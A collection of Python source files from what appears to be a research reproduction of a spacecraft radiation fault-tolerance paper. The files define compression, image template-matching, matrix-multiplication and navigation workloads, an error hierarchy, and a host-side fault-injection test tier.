    freqs[_EOF_SYMBOL] += 1
    lengths = code_lengths_from_frequencies(freqs)
    codes = canonical_codes(lengths)

    writer = BitWriter()
    for token in tokens:
        if token.length:
            code, width = codes[_MATCH_SYMBOL]
            writer.write(code, width)
            writer.write(token.length - _MIN_MATCH, 8)
            writer.write(token.distance, 15)
        else:
            code, width = codes[token.literal]
            writer.write(code, width)
    code, width = codes[_EOF_SYMBOL]
    writer.write(code, width)
    payload = writer.getvalue()

    header = len(data).to_bytes(4, "little")
    table = bytes(lengths)
    return header + table + payload


def decompress(blob: bytes, dictionary: bytes = b"") -> bytes:
    """Inverse of :func:`compress` (same dictionary required)."""
    if len(blob) < 4 + _ALPHABET:
        raise WorkloadError("compressed blob too short")
    expected = int.from_bytes(blob[:4], "little")
    lengths = list(blob[4 : 4 + _ALPHABET])
    decoder = CanonicalDecoder(lengths)
    reader = BitReader(blob[4 + _ALPHABET :])
    out = bytearray(dictionary)
    base = len(dictionary)
    while True:
        symbol = decoder.decode(reader)
        if symbol == _EOF_SYMBOL:
            break
        if symbol == _MATCH_SYMBOL:
            length = reader.read(8) + _MIN_MATCH
            distance = reader.read(15)
            if distance == 0 or distance > len(out):
                raise WorkloadError("corrupt match distance")
            for _ in range(length):
                out.append(out[-distance])
        else:
            out.append(symbol)
    result = bytes(out[base:])
    if len(result) != expected:
        raise WorkloadError(
            f"decompressed {len(result)} bytes, header said {expected}"
        )
    return result


# ----------------------------------------------------------------------
# The EMR workload
# ----------------------------------------------------------------------


def make_compressible(rng: np.random.Generator, size: int) -> bytes:
    """Telemetry-log-like data: repetitive tokens with noise."""
    vocabulary = [
        b"TEMP=%03d " % v for v in range(20, 30)
    ] + [b"VOLT=5.02 ", b"MODE=IDLE ", b"MODE=SCAN ", b"SEQ=%05d\n" % 0]
    out = bytearray()
    while len(out) < size:
        out += vocabulary[int(rng.integers(0, len(vocabulary)))]
        if rng.random() < 0.05:
            out += bytes(rng.integers(0, 256, 4, dtype=np.uint8))
    return bytes(out[:size])


class DeflateWorkload(Workload):
    """Chunked log compression with preceding-block dictionaries.

    Dataset ``i`` reads blocks ``i-1`` (dictionary) and ``i`` (payload):
    adjacent datasets share block ``i``'s memory, so the conflict graph
    is a chain and no region recurs often enough to replicate.
    """

    name = "compression"
    library_analog = "Zlib"
    paper_replication_strategy = "No replication"

    def __init__(self, block_bytes: int = 1024, blocks: int = 24) -> None:
        if block_bytes <= 0 or blocks < 2:
            raise WorkloadError("need positive block size and >= 2 blocks")
        self.block_bytes = block_bytes
        self.blocks = blocks

    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        n_blocks = self.blocks * scale
        data = make_compressible(rng, n_blocks * self.block_bytes)
        datasets = []
        for i in range(n_blocks):
            regions = {
                "block": RegionRef("logdata", i * self.block_bytes, self.block_bytes)
            }
            if i > 0:
                regions["dictionary"] = RegionRef(
                    "logdata", (i - 1) * self.block_bytes, self.block_bytes
                )
            datasets.append(DatasetSpec(index=i, regions=regions))
        return WorkloadSpec(
            name=self.name,
            blobs={"logdata": data},
            datasets=datasets,
            # Worst case: incompressible block + container overhead.
            output_size=self.block_bytes + self.block_bytes // 4 + 4 + _ALPHABET + 64,
        )

    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        return compress(inputs["block"], dictionary=inputs.get("dictionary", b""))

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        return dataset.regions["block"].length * 260
