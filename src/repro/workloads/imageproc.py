"""Global-localization template matching (the paper's OpenCV analog).

This is the paper's guiding example (§3.2, Fig 6): "every possible
N-by-N pixel subset of a large global map is matched against a local
map" to localize a rover. Each candidate window is a dataset; windows
that share even one pixel conflict ("each N-by-N-pixel dataset has up
to N² conflicting datasets"), while the *search template* appears in
every dataset and is the replication winner ("the image processing
workload worked best when the full image is not replicated, but the
image to be matched was", §4.2.4 / Fig 9).

A window's memory footprint is one region per image row — N short
regions, not one big span — so the conflict graph matches the real 2-D
overlap structure.

The matcher computes zero-mean normalized cross-correlation (NCC) plus
the sum of absolute differences (SAD), both from the raw bytes the
executor fetched; a single flipped cached pixel changes the score.
"""

from __future__ import annotations

import struct

import numpy as np

from ..errors import WorkloadError
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec


def make_terrain(rng: np.random.Generator, height: int, width: int) -> np.ndarray:
    """Synthetic Jezero-crater-like terrain: smoothed multi-scale noise."""
    image = np.zeros((height, width))
    for scale in (4, 8, 16):
        coarse = rng.normal(
            size=(max(2, height // scale + 1), max(2, width // scale + 1))
        )
        rows = np.linspace(0, coarse.shape[0] - 1, height)
        cols = np.linspace(0, coarse.shape[1] - 1, width)
        r0 = np.floor(rows).astype(int)
        c0 = np.floor(cols).astype(int)
        r1 = np.minimum(r0 + 1, coarse.shape[0] - 1)
        c1 = np.minimum(c0 + 1, coarse.shape[1] - 1)
        fr = (rows - r0)[:, None]
        fc = (cols - c0)[None, :]
        interpolated = (
            coarse[np.ix_(r0, c0)] * (1 - fr) * (1 - fc)
            + coarse[np.ix_(r1, c0)] * fr * (1 - fc)
            + coarse[np.ix_(r0, c1)] * (1 - fr) * fc
            + coarse[np.ix_(r1, c1)] * fr * fc
        )
        image += interpolated * scale
    image -= image.min()
    image *= 255.0 / max(image.max(), 1e-9)
    return image.astype(np.uint8)


def match_scores(window: np.ndarray, template: np.ndarray) -> "tuple[float, float]":
    """(NCC, SAD) between same-shape uint8 arrays."""
    if window.shape != template.shape:
        raise WorkloadError(
            f"window {window.shape} vs template {template.shape}"
        )
    w = window.astype(np.float64)
    t = template.astype(np.float64)
    wc = w - w.mean()
    tc = t - t.mean()
    denom = np.sqrt((wc * wc).sum() * (tc * tc).sum())
    ncc = float((wc * tc).sum() / denom) if denom > 0 else 0.0
    sad = float(np.abs(w - t).sum())
    return ncc, sad


def batch_match_scores(
    windows: np.ndarray, template: np.ndarray
) -> "tuple[np.ndarray, np.ndarray]":
    """Vectorized :func:`match_scores` over a ``(k, n, n)`` window
    stack; returns ``(ncc[k], sad[k])``.

    The per-window reductions run over the same contiguous layout the
    scalar path sees, so scores are bit-identical float64s — which
    matters because fault-injection campaigns compare golden outputs
    byte for byte.
    """
    if windows.ndim != 3 or windows.shape[1:] != template.shape:
        raise WorkloadError(
            f"windows {windows.shape} vs template {template.shape}"
        )
    t = template.astype(np.float64)
    tc = t - t.mean()
    tc_energy = (tc * tc).sum()
    k = windows.shape[0]
    ncc = np.empty(k)
    sad = np.empty(k)
    # Chunked so the float64 temporaries stay cache-resident: a full
    # stride-1 search materializes tens of millions of window pixels,
    # and one monolithic pass would be memory-bandwidth-bound. Chunking
    # changes nothing numerically (windows are scored independently).
    chunk = max(1, (1 << 21) // max(1, 8 * template.size))
    for start in range(0, k, chunk):
        w = np.ascontiguousarray(windows[start : start + chunk]).astype(np.float64)
        wc = w - w.mean(axis=(1, 2), keepdims=True)
        denom = np.sqrt((wc * wc).sum(axis=(1, 2)) * tc_energy)
        correlation = (wc * tc).sum(axis=(1, 2))
        ncc[start : start + chunk] = np.divide(
            correlation, denom, out=np.zeros_like(denom), where=denom > 0
        )
        sad[start : start + chunk] = np.abs(w - t).sum(axis=(1, 2))
    return ncc, sad


def extract_windows(
    image: np.ndarray, rows: np.ndarray, cols: np.ndarray, n: int
) -> np.ndarray:
    """Gather ``(len(rows), n, n)`` windows at the given origins using
    a zero-copy sliding-window view (the gather itself copies only the
    requested windows)."""
    view = np.lib.stride_tricks.sliding_window_view(image, (n, n))
    return np.ascontiguousarray(view[rows, cols])


def search_template(
    image: np.ndarray, template: np.ndarray, stride: int = 1
) -> "tuple[np.ndarray, np.ndarray]":
    """Score every stride-aligned window of ``image`` against
    ``template`` in one pass; returns ``(ncc, sad)`` grids of shape
    ``(n_rows, n_cols)`` over window origins."""
    n = template.shape[0]
    if template.shape != (n, n):
        raise WorkloadError(f"template must be square, got {template.shape}")
    if stride <= 0:
        raise WorkloadError("stride must be positive")
    view = np.lib.stride_tricks.sliding_window_view(image, (n, n))
    strided = view[::stride, ::stride]
    grid_shape = strided.shape[:2]
    windows = strided.reshape(-1, n, n)  # lazy view; batch copies per chunk
    ncc, sad = batch_match_scores(windows, template)
    return ncc.reshape(grid_shape), sad.reshape(grid_shape)


class ImageProcessingWorkload(Workload):
    """Template search over a terrain map at a configurable stride."""

    name = "image_processing"
    library_analog = "OpenCV"
    paper_replication_strategy = "Replicate match image"

    def __init__(
        self,
        map_size: int = 96,
        template_size: int = 24,
        stride: int = 12,
    ) -> None:
        if template_size >= map_size:
            raise WorkloadError("template must be smaller than the map")
        if stride <= 0:
            raise WorkloadError("stride must be positive")
        self.map_size = map_size
        self.template_size = template_size
        self.stride = stride

    def _window_origins(self, map_size: int) -> "list[tuple[int, int]]":
        limit = map_size - self.template_size
        steps = range(0, limit + 1, self.stride)
        return [(r, c) for r in steps for c in steps]

    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        map_size = self.map_size * scale
        terrain = make_terrain(rng, map_size, map_size)
        # The template is a real crop (plus sensor noise), so exactly
        # one window is the right answer.
        n = self.template_size
        true_row = int(rng.integers(0, map_size - n + 1))
        true_col = int(rng.integers(0, map_size - n + 1))
        template = terrain[true_row : true_row + n, true_col : true_col + n].astype(int)
        template = np.clip(
            template + rng.normal(0, 2.0, template.shape), 0, 255
        ).astype(np.uint8)

        template_ref = RegionRef("template", 0, n * n)
        datasets = []
        for index, (row, col) in enumerate(self._window_origins(map_size)):
            regions = {"template": template_ref}
            for window_row in range(n):
                offset = (row + window_row) * map_size + col
                regions[f"row{window_row}"] = RegionRef("map", offset, n)
            datasets.append(
                DatasetSpec(
                    index=index,
                    regions=regions,
                    params={"row": row, "col": col, "n": n},
                )
            )
        return WorkloadSpec(
            name=self.name,
            blobs={"map": terrain.tobytes(), "template": template.tobytes()},
            datasets=datasets,
            output_size=24,
        )

    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        n = int(params["n"])
        rows = [
            np.frombuffer(inputs[f"row{r}"], dtype=np.uint8) for r in range(n)
        ]
        window = np.stack(rows)
        template = np.frombuffer(inputs["template"], dtype=np.uint8).reshape(n, n)
        ncc, sad = match_scores(window, template)
        return struct.pack("<ddII", ncc, sad, int(params["row"]), int(params["col"]))

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        n = int(dataset.params["n"])
        # NCC + SAD per pixel: loads, two centred multiplies, running
        # sums, plus the normalization epilogue.
        return n * n * 55

    def reference_outputs(self, spec: WorkloadSpec) -> "list[bytes]":
        """Golden path: gather every candidate window through one
        sliding-window view and score the whole stack at once.
        Byte-identical to running :meth:`run_job` per dataset."""
        sizes = {int(ds.params.get("n", 0)) for ds in spec.datasets}
        if len(sizes) != 1 or "map" not in spec.blobs:
            return super().reference_outputs(spec)
        n = sizes.pop()
        map_bytes = spec.blobs["map"]
        side = int(np.sqrt(len(map_bytes)))
        if n <= 0 or side * side != len(map_bytes):
            return super().reference_outputs(spec)
        terrain = np.frombuffer(map_bytes, dtype=np.uint8).reshape(side, side)
        template = np.frombuffer(
            spec.blobs["template"], dtype=np.uint8
        ).reshape(n, n)
        rows = np.array([int(ds.params["row"]) for ds in spec.datasets])
        cols = np.array([int(ds.params["col"]) for ds in spec.datasets])
        windows = extract_windows(terrain, rows, cols, n)
        ncc, sad = batch_match_scores(windows, template)
        return [
            struct.pack("<ddII", float(ncc[i]), float(sad[i]),
                        int(rows[i]), int(cols[i]))
            for i in range(len(spec.datasets))
        ]

    @staticmethod
    def best_match(outputs: "list[bytes]") -> "tuple[float, int, int]":
        """Pick the (ncc, row, col) of the winning window."""
        if not outputs:
            return (-2.0, -1, -1)
        records = np.frombuffer(
            b"".join(outputs),
            dtype=[("ncc", "<f8"), ("sad", "<f8"), ("row", "<u4"), ("col", "<u4")],
        )
        winner = int(np.argmax(records["ncc"]))  # first max, like the old loop
        best = records[winner]
        return (float(best["ncc"]), int(best["row"]), int(best["col"]))
