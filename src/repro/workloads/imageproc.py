"""Global-localization template matching (the paper's OpenCV analog).

This is the paper's guiding example (§3.2, Fig 6): "every possible
N-by-N pixel subset of a large global map is matched against a local
map" to localize a rover. Each candidate window is a dataset; windows
that share even one pixel conflict ("each N-by-N-pixel dataset has up
to N² conflicting datasets"), while the *search template* appears in
every dataset and is the replication winner ("the image processing
workload worked best when the full image is not replicated, but the
image to be matched was", §4.2.4 / Fig 9).

A window's memory footprint is one region per image row — N short
regions, not one big span — so the conflict graph matches the real 2-D
overlap structure.

The matcher computes zero-mean normalized cross-correlation (NCC) plus
the sum of absolute differences (SAD), both from the raw bytes the
executor fetched; a single flipped cached pixel changes the score.
"""

from __future__ import annotations

import struct

import numpy as np

from ..errors import WorkloadError
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec


def make_terrain(rng: np.random.Generator, height: int, width: int) -> np.ndarray:
    """Synthetic Jezero-crater-like terrain: smoothed multi-scale noise."""
    image = np.zeros((height, width))
    for scale in (4, 8, 16):
        coarse = rng.normal(
            size=(max(2, height // scale + 1), max(2, width // scale + 1))
        )
        rows = np.linspace(0, coarse.shape[0] - 1, height)
        cols = np.linspace(0, coarse.shape[1] - 1, width)
        r0 = np.floor(rows).astype(int)
        c0 = np.floor(cols).astype(int)
        r1 = np.minimum(r0 + 1, coarse.shape[0] - 1)
        c1 = np.minimum(c0 + 1, coarse.shape[1] - 1)
        fr = (rows - r0)[:, None]
        fc = (cols - c0)[None, :]
        interpolated = (
            coarse[np.ix_(r0, c0)] * (1 - fr) * (1 - fc)
            + coarse[np.ix_(r1, c0)] * fr * (1 - fc)
            + coarse[np.ix_(r0, c1)] * (1 - fr) * fc
            + coarse[np.ix_(r1, c1)] * fr * fc
        )
        image += interpolated * scale
    image -= image.min()
    image *= 255.0 / max(image.max(), 1e-9)
    return image.astype(np.uint8)


def match_scores(window: np.ndarray, template: np.ndarray) -> "tuple[float, float]":
    """(NCC, SAD) between same-shape uint8 arrays."""
    if window.shape != template.shape:
        raise WorkloadError(
            f"window {window.shape} vs template {template.shape}"
        )
    w = window.astype(np.float64)
    t = template.astype(np.float64)
    wc = w - w.mean()
    tc = t - t.mean()
    denom = np.sqrt((wc * wc).sum() * (tc * tc).sum())
    ncc = float((wc * tc).sum() / denom) if denom > 0 else 0.0
    sad = float(np.abs(w - t).sum())
    return ncc, sad


class ImageProcessingWorkload(Workload):
    """Template search over a terrain map at a configurable stride."""

    name = "image_processing"
    library_analog = "OpenCV"
    paper_replication_strategy = "Replicate match image"

    def __init__(
        self,
        map_size: int = 96,
        template_size: int = 24,
        stride: int = 12,
    ) -> None:
        if template_size >= map_size:
            raise WorkloadError("template must be smaller than the map")
        if stride <= 0:
            raise WorkloadError("stride must be positive")
        self.map_size = map_size
        self.template_size = template_size
        self.stride = stride

    def _window_origins(self, map_size: int) -> "list[tuple[int, int]]":
        limit = map_size - self.template_size
        steps = range(0, limit + 1, self.stride)
        return [(r, c) for r in steps for c in steps]

    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        map_size = self.map_size * scale
        terrain = make_terrain(rng, map_size, map_size)
        # The template is a real crop (plus sensor noise), so exactly
        # one window is the right answer.
        n = self.template_size
        true_row = int(rng.integers(0, map_size - n + 1))
        true_col = int(rng.integers(0, map_size - n + 1))
        template = terrain[true_row : true_row + n, true_col : true_col + n].astype(int)
        template = np.clip(
            template + rng.normal(0, 2.0, template.shape), 0, 255
        ).astype(np.uint8)

        template_ref = RegionRef("template", 0, n * n)
        datasets = []
        for index, (row, col) in enumerate(self._window_origins(map_size)):
            regions = {"template": template_ref}
            for window_row in range(n):
                offset = (row + window_row) * map_size + col
                regions[f"row{window_row}"] = RegionRef("map", offset, n)
            datasets.append(
                DatasetSpec(
                    index=index,
                    regions=regions,
                    params={"row": row, "col": col, "n": n},
                )
            )
        return WorkloadSpec(
            name=self.name,
            blobs={"map": terrain.tobytes(), "template": template.tobytes()},
            datasets=datasets,
            output_size=24,
        )

    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        n = int(params["n"])
        rows = [
            np.frombuffer(inputs[f"row{r}"], dtype=np.uint8) for r in range(n)
        ]
        window = np.stack(rows)
        template = np.frombuffer(inputs["template"], dtype=np.uint8).reshape(n, n)
        ncc, sad = match_scores(window, template)
        return struct.pack("<ddII", ncc, sad, int(params["row"]), int(params["col"]))

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        n = int(dataset.params["n"])
        # NCC + SAD per pixel: loads, two centred multiplies, running
        # sums, plus the normalization epilogue.
        return n * n * 55

    @staticmethod
    def best_match(outputs: "list[bytes]") -> "tuple[float, int, int]":
        """Pick the (ncc, row, col) of the winning window."""
        best = (-2.0, -1, -1)
        for blob in outputs:
            ncc, _sad, row, col = struct.unpack("<ddII", blob)
            if ncc > best[0]:
                best = (ncc, row, col)
        return best
