"""Registry of the Table 5 workload suite."""

from __future__ import annotations

from ..errors import ConfigurationError
from .aes import AesWorkload
from .base import Workload
from .deflate import DeflateWorkload
from .dnn import DnnWorkload
from .imageproc import ImageProcessingWorkload
from .matmul import MatmulWorkload
from .regexengine import IntrusionDetectionWorkload

#: name -> zero-argument factory for the five paper workloads (Table 5).
PAPER_WORKLOADS = {
    "encryption": AesWorkload,
    "compression": DeflateWorkload,
    "intrusion_detection": IntrusionDetectionWorkload,
    "image_processing": ImageProcessingWorkload,
    "neural_networks": DnnWorkload,
}

#: Everything, including supporting workloads.
ALL_WORKLOADS = dict(PAPER_WORKLOADS, matmul=MatmulWorkload)


def make_workload(name: str, **kwargs) -> Workload:
    """Instantiate a registered workload by name."""
    try:
        factory = ALL_WORKLOADS[name]
    except KeyError:
        known = ", ".join(sorted(ALL_WORKLOADS))
        raise ConfigurationError(f"unknown workload {name!r}; known: {known}") from None
    return factory(**kwargs)


def paper_workloads() -> "list[Workload]":
    """Fresh instances of the five Table 5 workloads, paper order."""
    return [factory() for factory in PAPER_WORKLOADS.values()]
