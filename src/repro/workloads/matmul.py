"""Matrix multiplication: the calibration workload of Fig 5, and a
compact functional workload for quickstarts.

Telemetry side: :func:`staircase_schedule` reproduces the paper's
calibration experiment — "cycles between using 0-4 CPUs at increasing
frequency steps of 100 MHz" — which exhibits the 99.7 % correlation
between instruction rate and current draw that justifies ILD's linear
model.

Functional side: ``C = A @ B`` where each dataset is a block of A's
rows plus all of B. B appears in every dataset, so EMR replicates it;
row blocks are disjoint, so after replication the conflict graph is
empty and EMR parallelizes perfectly.
"""

from __future__ import annotations

import numpy as np

from ..errors import WorkloadError
from ..sim.core import CoreSpec
from ..sim.telemetry import ActivitySegment
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec


def staircase_schedule(
    step_duration: float = 5.0,
    n_cores: int = 4,
    core_spec: "CoreSpec | None" = None,
) -> "list[ActivitySegment]":
    """The Fig 5 staircase: every (active-core-count, frequency) cell."""
    spec = core_spec or CoreSpec()
    segments = []
    for active in range(n_cores + 1):
        for freq in spec.freq_levels:
            util = (0.95,) * active + (0.015,) * (n_cores - active)
            segments.append(
                ActivitySegment(
                    duration=step_duration,
                    core_util=util,
                    label=f"matmul:{active}c@{freq / 1e6:.0f}MHz",
                    quiescent=active == 0,
                    dram_gbs=0.35 * active * (freq / spec.max_freq),
                    cache_hit_rate=0.93,
                    freq_override=freq,
                )
            )
    return segments


class MatmulWorkload(Workload):
    """Blocked ``C = A @ B`` over float32 matrices."""

    name = "matmul"
    library_analog = "BLAS"
    paper_replication_strategy = "Replicate B matrix"

    def __init__(self, size: int = 64, block_rows: int = 8) -> None:
        if size % block_rows:
            raise WorkloadError("block_rows must divide size")
        self.size = size
        self.block_rows = block_rows

    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        size = self.size * scale
        a = rng.normal(size=(size, size)).astype("<f4")
        b = rng.normal(size=(size, size)).astype("<f4")
        row_bytes = size * 4
        b_ref = RegionRef("b", 0, size * size * 4)
        datasets = [
            DatasetSpec(
                index=i,
                regions={
                    "a_block": RegionRef(
                        "a", i * self.block_rows * row_bytes, self.block_rows * row_bytes
                    ),
                    "b": b_ref,
                },
                params={"size": size, "block_rows": self.block_rows},
            )
            for i in range(size // self.block_rows)
        ]
        return WorkloadSpec(
            name=self.name,
            blobs={"a": a.tobytes(), "b": b.tobytes()},
            datasets=datasets,
            output_size=self.block_rows * row_bytes,
        )

    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        size = int(params["size"])
        block_rows = int(params["block_rows"])
        a_block = np.frombuffer(inputs["a_block"], dtype="<f4").reshape(block_rows, size)
        b = np.frombuffer(inputs["b"], dtype="<f4").reshape(size, size)
        c = (a_block.astype(np.float64) @ b.astype(np.float64)).astype("<f4")
        return c.tobytes()

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        size = int(dataset.params["size"])
        return int(dataset.params["block_rows"]) * size * size * 4
