"""The spacecraft navigation workload used in the SEL experiments.

Fig 2 plots the current draw of "a spacecraft navigation workload
running on a Raspberry Pi Zero 2 W" before and after an SEL. The
workload here is its telemetry profile: an F´-flight-software-like
duty cycle of attitude-estimation bursts (CPU + DRAM heavy), sensor
polls (light, periodic), and long quiescent gaps waiting for the next
ground contact.
"""

from __future__ import annotations

import numpy as np

from ..sim.telemetry import ActivitySegment, quiescent_segment


def attitude_burst(duration: float = 45.0, n_cores: int = 4) -> ActivitySegment:
    """Dense estimation: matrix-heavy, all cores, hot DRAM."""
    return ActivitySegment(
        duration=duration,
        core_util=(0.92, 0.9, 0.85, 0.6)[:n_cores],
        label="nav:attitude",
        dram_gbs=0.9,
        branch_miss_rate=0.02,
        cache_hit_rate=0.94,
        disk_read_iops=20.0,
        disk_write_iops=45.0,
    )


def sensor_poll(duration: float = 8.0, n_cores: int = 4) -> ActivitySegment:
    """Periodic sensor ingest: one busy core, light IO."""
    return ActivitySegment(
        duration=duration,
        core_util=(0.45,) + (0.03,) * (n_cores - 1),
        label="nav:sensor-poll",
        dram_gbs=0.1,
        disk_write_iops=110.0,
    )


def navigation_schedule(
    total_duration: float,
    n_cores: int = 4,
    rng: "np.random.Generator | None" = None,
    quiescent_range: "tuple[float, float]" = (60.0, 150.0),
    burst_range: "tuple[float, float]" = (30.0, 70.0),
) -> "list[ActivitySegment]":
    """A mission-shaped schedule filling ``total_duration`` seconds.

    Pattern per cycle: quiescence → sensor poll → attitude burst →
    quiescence, with mild randomization so no two cycles are identical.
    Spacecraft "stay in a quiescent state for the vast majority of the
    time" (§3.1) — widen ``quiescent_range`` for realistic duty cycles.
    """
    rng = rng or np.random.default_rng(0)
    segments: "list[ActivitySegment]" = []
    elapsed = 0.0

    def push(segment: ActivitySegment) -> bool:
        nonlocal elapsed
        remaining = total_duration - elapsed
        if remaining <= 0.5:
            return False
        if segment.duration > remaining:
            from dataclasses import replace

            segment = replace(segment, duration=remaining)
        segments.append(segment)
        elapsed += segment.duration
        return True

    while elapsed < total_duration:
        if not push(quiescent_segment(float(rng.uniform(*quiescent_range)), n_cores)):
            break
        if not push(sensor_poll(float(rng.uniform(4, 12)), n_cores)):
            break
        if not push(attitude_burst(float(rng.uniform(*burst_range)), n_cores)):
            break
    if not segments:
        segments.append(quiescent_segment(max(total_duration, 1.0), n_cores))
    return segments
