"""Spacecraft workloads, implemented from scratch (Table 5).

=====================  ===========  ================================
Workload               Lib analog   Replication strategy (paper)
=====================  ===========  ================================
encryption             OpenSSL      replicate key
compression            Zlib         no replication
intrusion_detection    RE2          replicate search pattern
image_processing       OpenCV       replicate match image
neural_networks        N/A          replicate model weights & biases
=====================  ===========  ================================

Plus supporting workloads: ``matmul`` (Fig 5 calibration staircase +
quickstart) and the navigation telemetry profile (Fig 2).
"""

from .aes import AesWorkload, ecb_decrypt, ecb_encrypt
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec
from .deflate import DeflateWorkload, compress, decompress, make_compressible
from .dnn import DnnWorkload, Mlp
from .imageproc import ImageProcessingWorkload, make_terrain, match_scores
from .matmul import MatmulWorkload, staircase_schedule
from .navigation import attitude_burst, navigation_schedule, sensor_poll
from .regexengine import DEFAULT_SIGNATURES, IntrusionDetectionWorkload, Regex
from .registry import ALL_WORKLOADS, PAPER_WORKLOADS, make_workload, paper_workloads

__all__ = [
    "ALL_WORKLOADS",
    "AesWorkload",
    "DEFAULT_SIGNATURES",
    "DatasetSpec",
    "DeflateWorkload",
    "DnnWorkload",
    "ImageProcessingWorkload",
    "IntrusionDetectionWorkload",
    "MatmulWorkload",
    "Mlp",
    "PAPER_WORKLOADS",
    "Regex",
    "RegionRef",
    "Workload",
    "WorkloadSpec",
    "attitude_burst",
    "compress",
    "decompress",
    "ecb_decrypt",
    "ecb_encrypt",
    "make_compressible",
    "make_terrain",
    "make_workload",
    "match_scores",
    "navigation_schedule",
    "paper_workloads",
    "sensor_poll",
    "staircase_schedule",
]
