"""Exception hierarchy for the Radshield reproduction.

Errors are split along the paper's fault taxonomy (§4.2.6, Table 7):

* *Detected* errors — faults that surface as an observable failure
  (a segfault-analog, an ECC double-bit detection, a voting tie).
  These map to the "Error" column of Table 7.
* *Silent* data corruption never raises; it is only discoverable by
  comparing against golden outputs, which the experiment harness does.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all library errors."""


class ConfigurationError(ReproError):
    """A component was constructed or wired with invalid parameters."""


class SimulationError(ReproError):
    """The simulated machine was driven into an invalid state."""


class AllocationError(SimulationError):
    """The simulated DRAM or flash allocator ran out of space."""


class InvalidAddressError(SimulationError):
    """An access fell outside any allocated region."""


class DetectedFaultError(ReproError):
    """Base class for faults the system *observes* (Table 7 "Error")."""


class UncorrectableMemoryError(DetectedFaultError):
    """SECDED detected a double-bit (or worse) error it cannot correct."""

    def __init__(self, address: int, message: str = "") -> None:
        self.address = address
        super().__init__(message or f"uncorrectable memory error at 0x{address:x}")


class SegmentationFault(DetectedFaultError):
    """A corrupted pointer or length drove an access out of bounds.

    The paper observes exactly this failure mode in fault injection:
    "a pointer in a job being sent to an executor was corrupted and
    resulted in segfault, which we define as a detected error".
    """


class VotingInconclusiveError(DetectedFaultError):
    """All three executor outputs disagreed; no majority exists."""


class WorkloadError(ReproError):
    """A workload implementation rejected its input."""


class StoreWriteError(ReproError):
    """The trial store could not durably persist an entry.

    Raised for host-side disk faults with an unambiguous operator
    action — a full disk (``ENOSPC``), a permission problem
    (``EACCES``), a read-only mount (``EROFS``), a blown quota
    (``EDQUOT``) — instead of letting a raw :class:`OSError` surface
    halfway through a campaign with no context. A campaign that hits
    this must stop: continuing would silently drop "committed" trials
    that resume later trusts.
    """


class HardwareDamagedError(SimulationError):
    """The simulated chip burned out (an SEL ran past the thermal limit)."""


class RecoveryFailedError(SimulationError):
    """The recovery supervisor exhausted its power-cycle retry budget
    without restoring baseline current."""
