"""``repro.ground`` — fault tolerance for the *host* side of campaigns.

PRs 4–5 made the simulated spacecraft dependable on unreliable
hardware; this package applies the same discipline to the ground
segment that actually runs the campaigns. Two layers:

* :mod:`repro.ground.supervision` — a supervised replacement for the
  worker pool underneath :func:`repro.parallel.pmap_report` and
  :func:`repro.campaign.execute`: per-trial wall-clock timeouts,
  bounded retry with **byte-identical reseeding** (a retried trial
  that succeeds is indistinguishable from a first-try success),
  crashed/hung-worker replacement, poison-trial quarantine (the
  campaign completes with a manifest instead of dying), and graceful
  degradation to serial execution when the pool is repeatedly lost.
* :mod:`repro.ground.chaos` — a deterministic host-fault chaos tier
  that proves the layer works: seeded scenarios inject worker crashes,
  hangs, transient exceptions, store bit-flips/truncations, and
  fill-disk write failures into real small campaigns and assert the
  PR-4-style invariants (always terminates, no silent escape,
  byte-identical final reports).

Store-side integrity (checksums, fsync durability, quarantine) lives
with the store itself in :mod:`repro.campaign.store`.

See ``docs/ground.md``.
"""

from .chaos import (
    HostChaosReport,
    HostFaultScenario,
    default_host_scenarios,
    host_reports_digest,
    render_host_reports,
    run_host_chaos,
    run_host_scenario,
)
from .supervision import (
    GroundPolicy,
    QuarantinedTask,
    QuarantinedTrial,
    quarantine_manifest,
    supervised_pmap_report,
)

__all__ = [
    "GroundPolicy",
    "HostChaosReport",
    "HostFaultScenario",
    "QuarantinedTask",
    "QuarantinedTrial",
    "default_host_scenarios",
    "host_reports_digest",
    "quarantine_manifest",
    "render_host_reports",
    "run_host_chaos",
    "run_host_scenario",
    "supervised_pmap_report",
]
