"""Host-fault chaos tier: break the ground segment, assert it holds.

PR 4's chaos harness (:mod:`repro.chaos`) storms the *simulated
spacecraft*; this tier storms the *host* that runs the campaigns.
Each :class:`HostFaultScenario` executes a real (small) campaign while
deterministically injecting ground-segment faults — worker crashes
(``os._exit``), hung workers, transient trial exceptions, store
bit-flips and truncations, fill-disk write failures — and asserts the
ground-segment invariants:

* **Always terminates.** No injected fault may hang or abort the
  campaign run (disk faults terminate it with a *clear, typed* error,
  which counts as terminating).
* **No silent escape.** Every injected fault is visible afterwards:
  as a ``ground.*`` counter, a quarantine manifest entry, a store
  integrity counter, or a raised :class:`~repro.errors.StoreWriteError`
  — never as silently wrong or silently missing results.
* **Byte-identical reports.** The surviving results of a faulted run
  — and the completed results after recovery/resume — are
  byte-identical to the fault-free baseline, at any worker count.

Fault injection is deterministic without being fingerprinted: the
fault plan rides in each trial's *item* (the picklable payload), never
in its *params* (the fingerprint material), so a faulted campaign
shares its fingerprints — and therefore its store entries and its
results — with the fault-free one. Attempt counting crosses process
boundaries via marker files (a crashed worker cannot carry an
in-memory counter to its replacement), and every fault fires *before*
the trial consumes its RNG, so a retried success is byte-identical to
a first-try success.
"""

from __future__ import annotations

import errno
import hashlib
import os
import tempfile
import time
import warnings
from dataclasses import dataclass, field
from pathlib import Path

from ..campaign import Campaign, Trial, canonical_json, execute, status
